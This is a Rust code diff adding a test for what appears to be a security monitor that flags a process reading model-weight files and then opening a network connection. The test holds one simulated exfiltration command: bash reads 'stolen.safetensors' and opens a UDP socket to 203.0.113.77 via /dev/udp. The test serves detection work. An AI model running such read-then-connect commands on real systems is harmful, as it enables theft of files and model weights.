@@ -139,6 +139,37 @@ pub(super) fn a_forbidden_connection_is_recorded(tools: &Tools, scratch: &Path) 
     outcome
 }
 
+pub(super) fn a_reader_that_connects_is_recorded(tools: &Tools, scratch: &Path) -> Result<(), Ended> {
+    let shipped = fs::read_to_string(tools.scripts.join("../policies/weights-then-egress.yaml")).map_err(not_ok)?;
+    let models = scratch.join("models");
+    let policy = shipped.replace("            - /models\n", &format!("            - {}\n", models.display()));
+    let policies = scratch.join("policies");
+    fs::create_dir_all(&policies).map_err(not_ok)?;
+    fs::write(policies.join("weights-then-egress.yaml"), policy).map_err(not_ok)?;
+    let spine = Spine::start(tools, scratch)?;
+    let path = spine.models.join("stolen.safetensors");
+    fs::write(&path, b"weights").map_err(not_ok)?;
+    // The reader is one child, the sender the shell itself. Nothing is sent: a UDP socket is connected.
+    let theft = format!("cat '{}' >/dev/null; exec 3<>/dev/udp/203.0.113.77/9", path.display());
+    run(Command::new("bash").args(["-c", &theft])).map_err(not_ok)?;
+    let record = spine
+        .daemon
+        .wait_for_record("the connection", |record| {
+            record["class_uid"] == 4001 && record["dst_endpoint"]["ip"] == "203.0.113.77"
+        })
+        .map_err(not_ok)?;
+    equal("policy", &record["policy"]["name"], "weights-then-egress")?;
+    equal("who connects", &record["actor"]["process"]["name"], "bash")?;
+    let own = &record["unmapped"]["plumbline"];
+    let has_read = own["has_read"].as_array().cloned().unwrap_or_default();
+    let half = has_read.iter().find(|half| half["path"] == path.display().to_string().as_str());
+    let half = half.ok_or_else(|| Ended::NotOk(format!("not among what was read: {}", own["has_read"])))?;
+    equal("who read", &half["process"]["name"], "cat")?;
+    equal("how much", &half["bytes_read"], 7)?;
+    let message = record["message"].as_str().unwrap_or_default();
+    ensure(message.contains("stolen.safetensors"), || message.to_owned())
+}
+
 pub(super) fn an_allowed_read_is_no_alert(tools: &Tools, scratch: &Path) -> Result<(), Ended> {
     let spine = Spine::start(tools, scratch)?;
     let path = spine.models.join("y.gguf");
